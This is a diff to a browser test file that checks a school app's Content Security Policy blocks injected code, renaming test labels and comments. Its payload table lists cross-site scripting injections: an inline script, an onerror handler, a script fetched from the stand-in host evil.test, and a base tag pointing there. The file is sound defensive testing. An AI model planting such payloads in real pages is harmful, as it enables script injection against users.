@@ -5,33 +5,33 @@ import { useVisits } from '../src/visits.ts';
 const { signedIn } = useVisits();
 const ownSchool = useOwnSchool();
 
-/** What an attacker who gets markup into the page would try, and the browser's words on it. */
+/** Injection attempts, and the browser's error for each. */
 const PLANTED = {
   'an inline script': {
     plant:
       "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
     error: /^Executing inline script violates the following Content Security Policy directive/,
   },
-  'a handler in an attribute': {
+  'an inline event handler': {
     plant:
       'document.body.insertAdjacentHTML(\'beforeend\', \'<img src="data:," onerror="window.ran = 1">\')',
     error:
       /^Executing inline event handler violates the following Content Security Policy directive/,
   },
-  'a script of another site': {
+  'a cross-origin script': {
     plant:
       "const s = document.createElement('script'); s.src = 'https://evil.test/x.js'; document.body.append(s)",
     error:
       /^Loading the script 'https:\/\/evil\.test\/x\.js' violates the following Content Security Policy directive/,
   },
-  'another base for every address': {
+  'a changed base URI': {
     plant: "document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.test/\">')",
     error:
       /^Setting the document's base URI to 'https:\/\/evil\.test\/' violates the following Content Security Policy directive/,
   },
 } as const;
 
-test('what is planted in the page does not run, and is reported', async () => {
+test('injected code does not run, and is reported', async () => {
   const visit = await signedIn('lincoln');
   const { page } = visit;
   for (const [what, { plant, error }] of Object.entries(PLANTED)) {
@@ -62,9 +62,9 @@ test('markup in the names of a school is shown as text on its screens', async ()
   expect(await visit.page.evaluate(() => Reflect.get(window, 'ran'))).toBeUndefined();
 });
 
-test('text cannot be made code', async () => {
+test('text cannot be evaluated as code', async () => {
   const visit = await signedIn('lincoln');
-  // Later, when the debugger that is allowed to is done.
+  // Deferred, because code run by the debugger is exempt from the policy.
   const refused = await visit.page.evaluate(
     () =>
       new Promise((done) => {
